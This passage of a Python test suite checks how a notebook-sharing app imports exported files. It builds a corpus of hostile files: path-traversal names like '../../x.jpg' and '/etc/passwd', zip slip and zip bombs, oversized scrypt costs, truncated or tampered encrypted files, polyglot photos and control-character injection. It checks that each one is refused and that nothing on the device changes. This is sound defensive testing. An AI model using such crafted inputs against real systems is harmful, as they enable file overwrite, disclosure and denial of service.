    "a note's text is a number": Hostile(lambda s: s.with_tables(_set("notes.1.text", 42)), FileProblem.BAD_DATA),
    # More than typing lets a client write: a screen took a minute to open a 10 MB note.
    "a note of 10 MB": Hostile(lambda s: s.with_tables(_set("notes.1.text", "".join(
        random.Random(10).choices("abcdefghijklmnopqrstuvwxyz ", k=10 * 2**20)))), FileProblem.TOO_MUCH_TEXT),
    "a caption one letter too long": Hostile(lambda s: s.with_tables(_set("photos.1.caption", "x" * (MAX_TEXT + 1))),
                                             FileProblem.TOO_MUCH_TEXT),
    "more notes at one step than typing allows": Hostile(lambda s: s.with_tables(_many_notes(MAX_NOTES_PER_STEP + 1)),
                                                         FileProblem.TOO_MUCH_TEXT),
    "photo file pointing elsewhere": Hostile(lambda s: s.with_tables(_set("photos.1.file", "../../x.jpg")),
                                             FileProblem.BAD_DATA),
    "thumbnail pointing elsewhere": Hostile(lambda s: s.with_tables(_set("photos.1.thumb", "/etc/passwd")),
                                            FileProblem.BAD_DATA),
    # Sealed files
    "sealed without a passphrase": Hostile(lambda s: s.sealed, FileProblem.NEEDS_PASSPHRASE),
    "sealed with a wrong passphrase": Hostile(lambda s: s.sealed, FileProblem.WRONG_PASSPHRASE, "Fietsen langs de Amstel"),
    "sealed with a flipped byte": Hostile(lambda s: flipped(s.sealed, len(s.sealed) - 5000), FileProblem.DAMAGED,
                                          PASSPHRASE),
    "sealed cut off after a chunk": Hostile(lambda s: _chunk_list(s, lambda parts: parts[:-1]), FileProblem.DAMAGED,
                                            PASSPHRASE),
    "sealed cut off inside a chunk": Hostile(lambda s: s.sealed[:-100], FileProblem.DAMAGED, PASSPHRASE),
    "sealed chunks swapped": Hostile(lambda s: _chunk_list(s, lambda p: [p[1], p[0], *p[2:]]), FileProblem.DAMAGED,
                                     PASSPHRASE),
    "sealed with the header only": Hostile(lambda s: s.sealed[:len(s.sealed) - len(sealed_parts(s.sealed)[1])],
                                           FileProblem.DAMAGED, PASSPHRASE),
    "sealed asking for 1 TiB of scrypt": Hostile(lambda s: resealed(s.sealed, _set("n", 2**30)), FileProblem.DAMAGED,
                                                PASSPHRASE),
    "sealed asking for endless scrypt rounds": Hostile(lambda s: resealed(s.sealed, _set("p", 2**20)),
                                                      FileProblem.DAMAGED, PASSPHRASE),
    # Costs the app never writes: hashlib.scrypt refused some of them with a traceback (n=1, or r of 2^21), others
    # it would have paid for in seconds and a gigabyte before the passphrase was ever checked.
    "sealed with scrypt cost n=1": Hostile(lambda s: resealed(s.sealed, _set("n", 1)), FileProblem.DAMAGED, PASSPHRASE),
    "sealed with scrypt n=2, r=2^21": Hostile(lambda s: resealed(s.sealed, lambda h: h.update(n=2, r=2**21)),
                                               FileProblem.DAMAGED, PASSPHRASE),
    "sealed with scrypt n=2^20": Hostile(lambda s: resealed(s.sealed, _set("n", 2**20)), FileProblem.DAMAGED,
                                         PASSPHRASE),
    "sealed with scrypt p=2^22": Hostile(lambda s: resealed(s.sealed, _set("p", 2**22)), FileProblem.DAMAGED,
                                         PASSPHRASE),
    "sealed with scrypt n that is no power of two": Hostile(lambda s: resealed(s.sealed, _set("n", 3 * 2**8)),
                                                            FileProblem.DAMAGED, PASSPHRASE),
    "sealed with scrypt r as true": Hostile(lambda s: resealed(s.sealed, _set("r", True)), FileProblem.DAMAGED,
                                            PASSPHRASE),
    "sealed with chunks of one byte": Hostile(lambda s: resealed(s.sealed, _set("chunk", 1)), FileProblem.DAMAGED,
                                              PASSPHRASE),
    "sealed with huge chunks": Hostile(lambda s: resealed(s.sealed, _set("chunk", 2**40)), FileProblem.DAMAGED,
                                       PASSPHRASE),
    "sealed header that is no JSON": Hostile(lambda s: MAGIC + (5).to_bytes(4, "big") + b"{{{{{" + bytes(64),
                                             FileProblem.DAMAGED, PASSPHRASE),
    "sealed header of 4 GB": Hostile(lambda s: MAGIC + (2**32 - 1).to_bytes(4, "big") + b"{}", FileProblem.DAMAGED,
                                     PASSPHRASE),
    # Sealed with the right passphrase, and still checked as closely as an open one.
    "sealed zip slip": Hostile(lambda s: sealing.seal(_plus(s, ("../x.jpg", s.photo)), PASSPHRASE),
                               FileProblem.UNSAFE_NAME, PASSPHRASE),
}


def _many_notes(count: int) -> Callable[[dict], None]:
    """A change that puts `count` notes at the first note's step."""
    def change(tables: dict) -> None:
        first = tables["notes"]["1"]
        tables["notes"] = {str(n): {**first, "id": f"{n:032x}", "order": n} for n in range(1, count + 1)}
    return change


def hostile(name: str, small: Small, monkeypatch) -> tuple[Hostile, bytes]:
    """The case and its file, with the limits it needs lowered for this test only."""
    case = CORPUS[name]
    raw = case.make(small)
    for limit, value in case.limits:
        monkeypatch.setattr(kompasfile, limit, value)
    return case, raw


def test_the_corpus_is_large_and_each_file_in_it_differs(small):
    files = [case.make(small) for name, case in CORPUS.items() if not case.limits and case.passphrase is None
             and name != "sealed without a passphrase"]
    assert len(CORPUS) >= 25
    assert len(set(files)) == len(files)
    # NOT_SAVED and CANNOT_SEAL are the device's (a full disk, no cryptography), not the file's.
    assert {case.problem for case in CORPUS.values()} >= set(FileProblem) - {FileProblem.NOT_SAVED, FileProblem.CANNOT_SEAL}


def test_the_good_files_the_corpus_is_made_from_are_taken_in(small, home):
    # Each hostile file is a good one with one thing changed: a good one rebuilt the same way must pass.
    with Shelf.open(home) as shelf:
        for raw, passphrase in ((small.raw, None), (small.signed(small.files()), None), (small.sealed, PASSPHRASE),
                                (_chunk_list(small, lambda parts: parts), PASSPHRASE)):
            arrival = shelf.receive(raw, passphrase)
            assert isinstance(arrival, Arrival), arrival
            assert arrival.manifest.nickname == "Noor" and arrival.manifest.photos == 1
            shelf.discard(arrival)


def test_that_the_kompas_had_a_pin_travels_only_as_a_plain_true(small, home):
    """Never the PIN or its hash: only whether there was one, so the new device can offer to set one."""
    assert small.manifest["kompas"]["had_pin"] is False
    with Shelf.open(home) as shelf:
        for value, had in ((True, True), (False, False), ("true", False), (1, False), (None, False)):
            arrival = shelf.receive(small.with_manifest(lambda m: m["kompas"].update(had_pin=value)))
            assert isinstance(arrival, Arrival) and arrival.manifest.had_pin is had, value
            shelf.discard(arrival)
        arrival = shelf.receive(small.with_manifest(lambda m: m["kompas"].pop("had_pin")))
        assert arrival.manifest.had_pin is False, "a file from before says nothing, and nothing is offered"
        shelf.discard(arrival)


@pytest.mark.parametrize("name", list(CORPUS))
def test_a_broken_or_hostile_file_is_refused_and_nothing_on_the_device_changes(name, small, home, monkeypatch):
    case, raw = hostile(name, small, monkeypatch)
    with Shelf.open(home) as shelf:
        before, cards = tree(home), shelf.cards()
        assert shelf.receive(raw, case.passphrase) is case.problem
        # Not a file more or less, hidden ones too (no .nieuw-* folder, no temp file), and not a byte changed.
        assert tree(home) == before
        assert shelf.cards() == cards
    with Shelf.open(home) as shelf:
        assert shelf.cards() == cards
        assert [n.text for n in kompas_of(shelf, cards[0].id).notes] == ["Mijn buurvrouw Fatma"]


CLI_CASES = ["sealed with scrypt cost n=1", "sealed with scrypt n=2, r=2^21", "zip slip ../", "symbolic link as the photo",
             "zip bomb of 1 GiB", "100,000 entries", "a photo", "empty", "bigger than the largest file",
             "SVG with a script as the photo", "sealed with a flipped byte", "sealed with a wrong passphrase",
             "sealed without a passphrase"]


@pytest.mark.parametrize("name", CLI_CASES)
def test_the_import_command_refuses_it_in_one_line_and_changes_nothing(name, small, home, tmp_path, monkeypatch,
                                                                       capsys):
    case, raw = hostile(name, small, monkeypatch)
    path = tmp_path / "ontvangen.kompas"
    path.write_bytes(raw)
    args = ["--data", str(home), "import", str(path)]
    if case.passphrase:
        (tmp_path / "wachtwoord.txt").write_text(case.passphrase + "\n", encoding="utf-8")
        args += ["--passphrase-file", str(tmp_path / "wachtwoord.txt")]
    before = tree(home)
    capsys.readouterr()
    assert main(args) == 1
    said = capsys.readouterr()
    assert said.err.splitlines() == [file_problem_message(case.problem)]
    assert said.out == ""
    assert tree(home) == before


def test_the_installed_command_refuses_a_hostile_file_without_a_traceback(small, home, tmp_path):
    path = tmp_path / "ontvangen.kompas"
    path.write_bytes(CORPUS["zip slip ../"].make(small))
    before = tree(home)
    result = subprocess.run([sys.executable, "-m", "kompas", "--data", str(home), "import", str(path)],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [file_problem_message(FileProblem.UNSAFE_NAME)]
    assert "Traceback" not in result.stderr
    assert tree(home) == before


@pytest.mark.parametrize("language", i18n.LANGUAGES)
def test_each_problem_with_a_file_has_words_of_its_own_in_every_language(language):
    with i18n.use_language(language):
        words = {problem: file_problem_message(problem) for problem in FileProblem}
    assert len(set(words.values())) == len(FileProblem), words
    # One line each: the command prints it as one line, a screen as one message.
    assert all(text.strip() and "\n" not in text for text in words.values())


# The same kompas again


def test_the_same_kompas_again_is_told_and_kept_both_under_a_name_of_its_own(small, tmp_path):
    data = copied(small.folder, tmp_path / "data")
    with Shelf.open(data) as shelf:
        with shelf.open_store(small.card.id) as store:
            workbook = Workbook(store)
            assert workbook.add_note(Condition.MEEDOEN, Step.INZET, "Later op dit apparaat") is Outcome.SAVED
            here = workbook.kompas
        arrival = shelf.receive(small.raw)
        assert isinstance(arrival, Arrival) and arrival.same == shelf.card(small.card.id)
        card = shelf.take_in(arrival, keep_both=True)
        assert card.id != small.card.id and card.nickname == "Noor 2"
        assert sorted(c.nickname for c in shelf.cards()) == ["Noor", "Noor 2"]
        # The file's kompas next to this device's own, each with its own content and photo.
        assert [n.text for n in kompas_of(shelf, card.id).notes] == ["Ik kan goed koken"]
        assert kompas_of(shelf, small.card.id) == here
        assert nearly_the_same(shelf.folder(card.id) / small.photo_name, small.photo)
    with Shelf.open(data) as shelf:
        assert sorted(c.nickname for c in shelf.cards()) == ["Noor", "Noor 2"]


def test_replacing_takes_the_files_content_and_keeps_this_devices_name_and_pin(small, tmp_path):
    data = copied(small.folder, tmp_path / "data")
    with Shelf.open(data) as shelf:
        original = kompas_of(shelf, small.card.id)
        # On this device the kompas got another name, colour and a PIN, and a note the file does not have.
        shelf.rename(small.card.id, "Noor thuis")
        shelf.change(small.card.id, look="oranje")
        assert PinLock(shelf.folder(small.card.id)).set("1234").outcome is PinOutcome.OK
        with shelf.open_store(small.card.id) as store:
            assert Workbook(store).add_note(Condition.MEEDOEN, Step.INZET, "Later") is Outcome.SAVED
        arrival = shelf.receive(small.raw)
        assert arrival.same is not None and arrival.same.nickname == "Noor thuis"
        card = shelf.take_in(arrival)
        assert (card.id, card.nickname, card.look) == (small.card.id, "Noor thuis", "oranje")
        assert [c.id for c in shelf.cards()] == [small.card.id]
    with Shelf.open(data) as shelf:
        assert shelf.card(small.card.id).nickname == "Noor thuis"
        assert kompas_of(shelf, small.card.id) == original
        door = PinLock(shelf.folder(small.card.id))
        assert door.is_set and door.check("1234").outcome is PinOutcome.OK
    assert [p.name for p in kompas_folders(data)] == [small.card.id]  # no .oud-* left, no .nieuw-*


def test_a_kompas_open_on_a_screen_is_not_replaced_under_it(small, tmp_path):
    data = copied(small.folder, tmp_path / "data")
    with Shelf.open(data) as shelf:
        before = tree(data)
        arrival = shelf.receive(small.raw)
        with shelf.open_store(small.card.id):
            with pytest.raises(FolderInUse):
                shelf.take_in(arrival)
        assert {k: v for k, v in tree(data).items() if ".kompas.lock" not in k} == \
            {k: v for k, v in before.items() if ".kompas.lock" not in k}


def test_a_crash_halfway_through_replacing_puts_the_old_kompas_back(small, tmp_path):
    data = copied(small.folder, tmp_path / "data")
    shelf_folder = data / SHELF_FOLDER
    before = tree(shelf_folder / small.card.id)
    # The first rename happened (the old one aside), the second not (the new one in its place).
    os.replace(shelf_folder / small.card.id, shelf_folder / f".oud-{small.card.id}")
    with Shelf.open(data) as shelf:
        assert [c.id for c in shelf.cards()] == [small.card.id]
        assert [n.text for n in kompas_of(shelf, small.card.id).notes] == ["Ik kan goed koken"]
    assert [p.name for p in kompas_folders(data)] == [small.card.id]
    assert tree(shelf_folder / small.card.id) == before


def test_a_crash_after_replacing_keeps_the_new_kompas_and_clears_the_old(small, tmp_path):
    data = copied(small.folder, tmp_path / "data")
    shelf_folder = data / SHELF_FOLDER
    shutil.copytree(shelf_folder / small.card.id, shelf_folder / f".oud-{small.card.id}")
    with Shelf.open(data) as shelf:
        assert shelf.cards() == [small.card]
    assert [p.name for p in kompas_folders(data)] == [small.card.id]


# The command


def test_export_and_import_take_a_kompas_along_sealed_with_a_passphrase_file(small, tmp_path, capsys):
    there = tmp_path / "there"
    secret = tmp_path / "wachtwoord.txt"
    secret.write_text(PASSPHRASE + "\r\n", encoding="utf-8")  # saved by Notepad: its line end is no part of it
    out = tmp_path / "noor.kompas"
    assert main(["--data", str(small.folder), "export", "--out", str(out), "--kompas", "noor",
                 "--passphrase-file", str(secret)]) == 0
    assert sealing.is_sealed(out.read_bytes()) and b"Noor" not in out.read_bytes()
    assert main(["--data", str(there), "import", str(out), "--passphrase-file", str(secret)]) == 0
    assert "Noor" in capsys.readouterr().out
    with Shelf.open(there) as shelf:
        assert shelf.cards() == [small.card]
        arrived = kompas_of(shelf, small.card.id)
        photo = (shelf.folder(small.card.id) / small.photo_name).read_bytes()
    with Shelf.open(small.folder) as shelf:
        assert arrived == kompas_of(shelf, small.card.id)
    assert nearly_the_same(photo, small.photo)

    # Once more: the kompas is there already, and without a choice nothing changes.
    before = tree(there)
    capsys.readouterr()
    assert main(["--data", str(there), "import", str(out), "--passphrase-file", str(secret)]) == 1
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1 and "--replace" in said and "--keep-both" in said
    assert tree(there) == before
    assert main(["--data", str(there), "import", str(out), "--passphrase-file", str(secret), "--keep-both"]) == 0
    assert main(["--data", str(there), "import", str(out), "--passphrase-file", str(secret), "--replace"]) == 0
    with Shelf.open(there) as shelf:
        assert sorted(c.nickname for c in shelf.cards()) == ["Noor", "Noor 2"]
    assert len(kompas_folders(there)) == 2


def test_a_photo_the_device_lost_does_not_stop_the_rest_from_moving(demo, tmp_path):
    # A photo file gone from the device (a card error, a hand-made cleanup): the copy still carries everything else,
    # and the manifest says which photo was missing when it was made, so it is told apart from a file cut short.
    source_folder = demo.data / SHELF_FOLDER / demo.card.id
    with Shelf.open(demo.data) as shelf:
        original = kompas_of(shelf, demo.card.id)
    lost, kept = original.photos
    (source_folder / lost.file).unlink()
    library = Library(Shelf.open(demo.data))
    try:
        raw = library.pack(demo.card.id)
    finally:
        library.close()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        assert json.loads(archive.read("manifest.json"))["missing"] == [lost.file]
        assert lost.file not in archive.namelist() and kept.file in archive.namelist()
    with Shelf.open(tmp_path / "other") as shelf:
        card = shelf.take_in(shelf.receive(raw))
        arrived = kompas_of(shelf, card.id)
        folder = shelf.folder(card.id)
    assert arrived == original  # the lost photo's caption and date still come along
    assert nearly_the_same(folder / kept.file, source_folder / kept.file)
    assert not (folder / lost.file).exists()


def test_a_key_derivation_that_fails_is_a_damaged_file_not_a_crash(small, home, monkeypatch):
    """Whatever scrypt says of a header's cost (hashlib raises ValueError for costs it cannot run), the file is
    refused as damaged and nothing changes: no traceback, no error screen in place of the app."""
    def refuse(*args, **kwargs):
        raise ValueError("n must be a power of 2")

    monkeypatch.setattr(sealing.hashlib, "scrypt", refuse)
    with Shelf.open(home) as shelf:
        before = tree(home)
        assert shelf.receive(small.sealed, PASSPHRASE) is FileProblem.DAMAGED
        assert tree(home) == before


def test_text_from_a_file_is_cleaned_as_typed_text_is(small, home):
    """U+202E, ESC, NUL and CR LF do not come in from a file when the keyboard would have kept them out: a note keeps
    its line break as "\\n", the action (one line when typed) gets a space."""
    def planted(tables: dict) -> None:
        tables["notes"]["1"]["text"] = "Mijn\u202e buurvrouw\x1b[31m Fatma\x00\r\nhelpt"
        state = tables.setdefault("kompas", {}).setdefault("1", {})
        state["wish"] = "Een \u2066huis\u2069\x07"
        state["action"] = {"text": "Bellen\r\nmet\x85de gemeente", "condition": "meedoen",
                                           "look_back": "2026-12-05", "helper": "Papa\u202d", "first_step": "",
                                           "chosen": "2026-11-21"}
        tables["photos"]["1"]["caption"] = "Op de\tfiets\x1b"

    with Shelf.open(home) as shelf:
        card = shelf.take_in(shelf.receive(small.with_tables(planted)), keep_both=True)
        kompas = kompas_of(shelf, card.id)
    assert [note.text for note in kompas.notes] == ["Mijn buurvrouw[31m Fatma\nhelpt"]
    assert kompas.wish == "Een huis"
    assert (kompas.action.text, kompas.action.helper) == ("Bellen met de gemeente", "Papa")
    assert kompas.photos[0].caption == "Op de fiets"


def test_a_file_at_typings_limits_is_taken_in(small, home):
    """Exactly what typing allows still comes in whole: the limits refuse only what a client could not have typed."""
    def full(tables: dict) -> None:
        _many_notes(MAX_NOTES_PER_STEP)(tables)
        tables["notes"]["1"]["text"] = "ä" * MAX_TEXT

    with Shelf.open(home) as shelf:
        card = shelf.take_in(shelf.receive(small.with_tables(full)), keep_both=True)
        kompas = kompas_of(shelf, card.id)
    assert len(kompas.notes) == MAX_NOTES_PER_STEP and kompas.notes[0].text == "ä" * MAX_TEXT


def test_a_photo_that_is_also_a_zip_comes_in_as_a_picture_only(small, home):
    """The file's photo as the app wrote it, with a ZIP hidden in its scan data: a baseline check passed it byte for
    byte; every photo is now encoded anew, so only the picture arrives."""
    polyglot = zip_in_scan_data(small.photo, SECRET.encode())
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    with Shelf.open(home) as shelf:
        card = shelf.take_in(shelf.receive(_instead_of_photo(small, small.photo_name, polyglot)), keep_both=True)
        kept = (shelf.folder(card.id) / small.photo_name).read_bytes()
    assert SECRET.encode() not in kept and not zipfile.is_zipfile(io.BytesIO(kept))
    with Image.open(io.BytesIO(kept)) as image, Image.open(io.BytesIO(small.photo)) as original:
        assert image.size == original.size
